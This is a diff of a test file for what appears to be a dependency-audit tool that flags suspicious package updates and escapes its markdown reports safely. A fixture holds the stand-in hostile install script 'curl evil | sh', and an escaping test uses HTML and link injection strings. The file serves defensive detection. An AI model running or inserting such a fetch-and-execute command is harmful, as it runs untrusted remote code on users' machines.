@@ -38,7 +38,7 @@ const takeover = change({
   severity: 'critical',
   findings: [
     { signal: 'possible-takeover', severity: 'critical', message: 'axios 1.14.1 looks like an account takeover', evidence: { indicators: ['trust-downgrade', 'publisher-changed'] } },
-    { signal: 'install-script-added', severity: 'high', message: 'postinstall added', evidence: { postinstall: 'node setup.js\ncurl evil | sh' } },
+    { signal: 'install-script-added', severity: 'high', message: 'postinstall added', evidence: { scripts: { postinstall: 'node setup.js\ncurl evil | sh' } } },
   ],
 });
 
@@ -54,7 +54,7 @@ describe('escaping', () => {
     const t = escapeText('@octocat <img src=x> [ok](http://evil) # LGTM');
     expect(t).not.toMatch(/@octocat/);
     expect(t).not.toContain('<img');
-    expect(t).not.toContain('](');
+    expect(t).not.toMatch(/[^\\]\]\(/); // every ] is escaped, so no link can form
     expect(t).not.toContain('http://');
   });
   it('code blocks use a fence longer than any in the text', () => {
@@ -69,9 +69,10 @@ describe('markdown report', () => {
     const r = result([change(), takeover, change({ name: 'chalk', severity: 'medium', findings: [{ signal: 'dormant-revival', severity: 'medium', message: 'dormant', evidence: {} }] })], { conclusion: 'failure' });
     const md = renderMarkdown(r);
     const lines = md.split('\n');
-    expect(lines[0]).toMatch(/^## ❌ lockwarden: 2 risky packages need review before merging: axios 1\\\.14\\\.0 → 1\\\.14\\\.1 \\\(critical\\\)/);
+    expect(lines[0]).toBe('## ❌ lockwarden: 2 risky packages need review before merging: axios 1.14.0 → 1.14.1 (critical)');
     expect(md.indexOf('`axios`')).toBeLessThan(md.indexOf('`chalk`'));
-    expect(md).toContain('curl evil | sh');
+    // the install script is shown inline, in a code block, not hidden in the evidence
+    expect(md).toMatch(/```\n\s*postinstall: node setup\.js\n\s*curl evil \| sh\n\s*```/);
     expect(md).toMatch(/<details><summary>1 routine change<\/summary>/);
     expect(md).toContain('`package-lock.json` line 42');
   });
